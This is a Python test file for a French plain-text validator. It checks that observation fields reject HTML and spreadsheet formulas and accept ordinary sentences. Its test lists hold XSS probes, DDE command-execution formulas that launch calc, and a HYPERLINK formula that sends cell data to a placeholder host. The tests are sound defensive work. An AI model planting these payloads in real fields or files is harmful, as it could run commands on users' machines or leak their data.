"""Text is text: no HTML, no formula, and no ordinary sentence refused."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pre_module.rules.plain_text import check_plain_text

HTML = [
	"<b>gras</b>",
	"<script>alert(1)</script>",
	"bonjour <img src=x onerror=alert(1)>",
	"< script >",
	"<\nimg src=x>",
	"</p>",
	"<!-- commentaire -->",
	"<?php echo 1 ?>",
	"&#60;script&#62;",
	"JavaScript:alert(1)",
]
FORMULAS = [
	"=1+1",
	"  =SOMME(A1:A9)",
	"=cmd|' /C calc'!A0",
	"@SUM(1+1)",
	"+2+3+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	'+HYPERLINK("https://x.example/?"&A1)',
	'-1+LIEN_HYPERTEXTE("https://x.example")',
	"\tcaché",
	"\n=1+1",
	"＝1+1",
]
SENTENCES = [
	"Il a 12 ans ; elle, 9.",
	"- ne rend plus ses devoirs\n- s'endort en classe",
	"+33 6 39 98 00 00",
	"+ à l'aise à l'oral | - à l'écrit",
	"- oui | non !",
	"moins de 5 < 10, plus de 3 > 2",
	"R&D, M. & Mme Exemple ; l'enfant <3 la lecture",
	"« Je veux lire », dit-elle (à sa mère).",
	"Moyenne = 12/20",
	"contact@example.org",
	"100 % présent·e, l’après-midi : 14 h – 16 h",
	"- image (de soi) à travailler",
	"محمد 🙂 Łukasz",
	"",
]


@pytest.mark.parametrize("text", HTML)
def test_html_is_refused(text):
	(found,) = check_plain_text("Observation", text)
	assert found.rule == "text"
	assert "HTML" in found.message


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_formula_is_refused(text):
	(found,) = check_plain_text("Observation", text)
	assert found.rule == "text"
	assert "formula" in found.message


@pytest.mark.parametrize("text", SENTENCES)
def test_an_ordinary_sentence_is_accepted(text):
	assert check_plain_text("Observation", text) == []


letters = "abcdefghijklmnopqrstuvwxyzàâäçéèêëîïôöùûüÿœæABCÉÀÇ"
words = st.text(letters, min_size=1, max_size=12)
sentences = st.builds(
	lambda opening, several, joint, end: opening + joint.join(several) + end,
	st.sampled_from(["", "- ", "+ ", "« ", "(", "1. ", "• ", "\n"]),
	st.lists(words, min_size=1, max_size=12),
	st.sampled_from([" ", ", ", " ; ", " : ", " / ", "-", "'", "’", " & ", " + ", " = ", " > ", "\n"]),
	st.sampled_from(["", ".", " !", " ?", "…", " »", ")", " 12/20", " 50 %"]),
)


@given(sentences)
def test_no_ordinary_french_sentence_is_refused(sentence):
	assert check_plain_text("Observation", sentence) == []


@given(sentences, st.sampled_from(HTML[:7]), sentences)
def test_html_is_refused_wherever_it_stands(before, tag, after):
	assert check_plain_text("Observation", before + tag + after)


@given(st.text(" \t\r\n", max_size=3), st.text())
def test_what_opens_with_an_equals_sign_is_a_formula(blank, rest):
	assert check_plain_text("Observation", f"{blank}={rest}")
